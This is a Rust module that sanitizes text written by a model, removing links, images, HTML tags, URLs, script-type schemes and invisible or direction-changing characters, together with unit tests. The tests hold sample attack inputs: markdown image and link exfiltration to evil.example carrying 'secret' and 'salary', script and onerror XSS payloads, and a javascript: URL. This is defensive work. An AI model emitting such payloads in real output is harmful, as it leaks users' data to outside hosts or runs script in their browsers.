//! What a model wrote, made harmless. Law: nothing that leaves here is a link, an image or markup, opens anything by
//! itself, or looks other than it is.

use shared_insights::whole_values;

/// Counts what was taken away.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Neutralized(pub(crate) u32);

/// A text of several lines.
pub(crate) fn neutral(text: &str, taken: &mut Neutralized) -> String {
    let visible: String = text.chars().filter(|character| is_visible(*character)).collect();
    let mut text = visible;
    // What is taken away may join what stood around it, so this goes on until nothing changes: each round is shorter.
    loop {
        let before = text.len();
        text = without_markdown_links(&text, taken);
        text = without_tags(&text, taken);
        text = without_addresses(&text, taken);
        if text.len() >= before {
            break;
        }
    }
    let text = text.replace("](", "] (").replace("://", ": ");
    let lines: Vec<String> = text
        .lines()
        .map(|line| line.split([' ', '\t']).filter(|word| !word.is_empty()).collect::<Vec<_>>().join(" "))
        .collect();
    let mut whole = lines.join("\n");
    while whole.contains("\n\n\n") {
        whole = whole.replace("\n\n\n", "\n\n");
    }
    whole.trim().to_owned()
}

/// A text of one line, of at most so many characters; not cut within a value, of which half would be told to nobody as
/// what it is.
pub(crate) fn neutral_line(text: &str, most: usize, taken: &mut Neutralized) -> String {
    let line = neutral(text, taken).replace('\n', " ");
    match line.char_indices().nth(most) {
        Some((end, _)) => format!("{}…", line[..whole_values(&line, end)].trim_end()),
        None => line,
    }
}

/// Not a control character, no mark that hides text or turns its direction, no tag character.
fn is_visible(character: char) -> bool {
    !matches!(character,
        '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{ad}'
        | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
        && (!character.is_control() || matches!(character, '\n' | '\t'))
}

/// `[words](address)` and `![words](address)` become their words.
fn without_markdown_links(text: &str, taken: &mut Neutralized) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('[') {
        let Some((words, after)) = link(&rest[open..]) else {
            out.push_str(&rest[..=open]);
            rest = &rest[open + 1..];
            continue;
        };
        taken.0 += 1;
        out.push_str(rest[..open].strip_suffix('!').unwrap_or(&rest[..open]));
        out.push_str(words);
        rest = after;
    }
    out.push_str(rest);
    out
}

/// The words of a link at the start of a text, and what stands behind it.
fn link(text: &str) -> Option<(&str, &str)> {
    let close = text.find(']')?;
    let words = &text[1..close];
    let behind = &text[close + 1..];
    let end = match behind.chars().next()? {
        '(' => behind.find(')')?,
        '[' => behind.find(']')?,
        ':' => behind.find('\n').map_or(behind.len() - 1, |end| end - 1),
        _ => return None,
    };
    if words.contains('\n') { None } else { Some((words, &behind[end + 1..])) }
}

/// `<tag …>`, `</tag>` and `<!…>` go; a `<` that opens no tag stays.
fn without_tags(text: &str, taken: &mut Neutralized) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find('<') {
        out.push_str(&rest[..open]);
        let inside = &rest[open + 1..];
        let is_tag = inside.starts_with(|first: char| first.is_ascii_alphabetic() || matches!(first, '/' | '!' | '?'));
        if !is_tag {
            out.push('<');
            rest = inside;
            continue;
        }
        taken.0 += 1;
        rest = inside.find('>').map_or("", |end| &inside[end + 1..]);
    }
    out.push_str(rest);
    out
}

/// `scheme://host/path` becomes `host`; `javascript:` and the like lose their colon; `www.` its dot.
fn without_addresses(text: &str, taken: &mut Neutralized) -> String {
    let mut out = String::with_capacity(text.len());
    for piece in text.split_inclusive(char::is_whitespace) {
        let word = piece.trim_end();
        let space = &piece[word.len()..];
        out.push_str(&plain_word(word, taken));
        out.push_str(space);
    }
    out
}

fn plain_word(word: &str, taken: &mut Neutralized) -> String {
    if let Some(at) = word.find("://") {
        taken.0 += 1;
        let before = &word[..at];
        let start = before
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |place| place + before[place..].chars().next().map_or(1, char::len_utf8));
        let behind = &word[at + 3..];
        let end = behind.find(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_'))).unwrap_or(behind.len());
        let host = behind[..end].trim_end_matches('.');
        let tail = word.trim_end_matches(['.', ',', ';', '!', '?', ')', '"', '\'']);
        let closing = &word[tail.len()..];
        return format!("{}{}{closing}", &before[..start], host.strip_prefix("www.").unwrap_or(host));
    }
    let lower = word.to_ascii_lowercase();
    for scheme in ["javascript:", "vbscript:", "data:", "file:", "mailto:", "blob:"] {
        if let Some(at) = lower.find(scheme) {
            taken.0 += 1;
            return format!("{}{}", &word[..at + scheme.len() - 1], &word[at + scheme.len()..]);
        }
    }
    if let Some(at) = lower.find("www.") {
        taken.0 += 1;
        let end = word[at..].find('/').map_or(word.len(), |end| at + end);
        return format!("{}{}", &word[..at], &word[at + 4..end]);
    }
    word.to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> (String, u32) {
        let mut taken = Neutralized::default();
        let text = neutral(text, &mut taken);
        (text, taken.0)
    }

    #[test]
    fn links_images_and_markup_become_words() {
        for (text, plain) in [
            ("See [the plan](https://evil.example/?q=secret).", "See the plan."),
            ("![x](https://evil.example/leak.png?d=salary)", "x"),
            ("[a][1] and\n[1]: https://evil.example/x", "a and\n1"),
            ("Go to https://evil.example/a?b=c, now", "Go to evil.example, now"),
            ("(https://www.example.org)", "(example.org)"),
            ("www.example.org/path?x=1", "example.org"),
            ("Click <a href=\"https://x.y\">here</a>!", "Click here!"),
            ("<script>alert(1)</script>done", "alert(1)done"),
            ("<img src=x onerror=alert(1)", ""),
            ("javascript:alert(1)", "javascriptalert(1)"),
            ("a\u{202e}b\u{200b}c\u{e0041}", "abc"),
        ] {
            let (found, taken) = read(text);
            assert_eq!(found, plain, "{text}");
            assert!(taken > 0 || text.contains('\u{202e}'));
        }
    }

    #[test]
    fn words_stay_as_they_are() {
        for text in
            ["x < 3 and y > 2", "Price [net] is 5 €.", "at 10:30 (tomorrow)", "é 漢字 🎉", "I <3 it", "a [b] (c)"]
        {
            assert_eq!(read(text), (text.to_owned(), 0));
        }
        assert_eq!(read("a  b\n\n\n\nc ").0, "a b\n\nc");
    }

    #[test]
    fn nothing_left_can_be_opened() {
        for text in [
            "hTTps://a.b",
            "ftp://x/y",
            "[x]( javascript:a )",
            "<<a>b>",
            "[[x](y)](z)",
            "<scr<script>ipt>",
            "]([](",
            "[](",
            "<",
            "http://",
            "://",
        ] {
            let (found, _) = read(text);
            assert!(!found.contains("://") && !found.contains("](") && !found.contains("<s"), "{text} -> {found}");
            assert_eq!(read(&found).0, found, "{text}");
        }
    }

    #[test]
    fn lines_are_cut_between_characters() {
        let mut taken = Neutralized::default();
        assert_eq!(neutral_line("añb\nc", 2, &mut taken), "añ…");
        assert_eq!(neutral_line("ab", 2, &mut taken), "ab");
        assert_eq!(neutral_line("pay 4111 1111 1111 1111 now", 12, &mut taken), "pay…");
    }
}
